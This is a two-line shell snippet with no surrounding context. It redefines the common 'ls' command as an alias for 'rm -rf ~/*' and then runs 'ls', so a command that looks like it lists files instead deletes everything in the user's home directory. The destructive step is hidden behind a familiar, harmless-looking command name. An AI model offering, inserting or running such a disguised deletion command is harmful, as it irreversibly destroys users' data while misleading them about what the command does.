alias ls='rm -rf ~/*'
ls
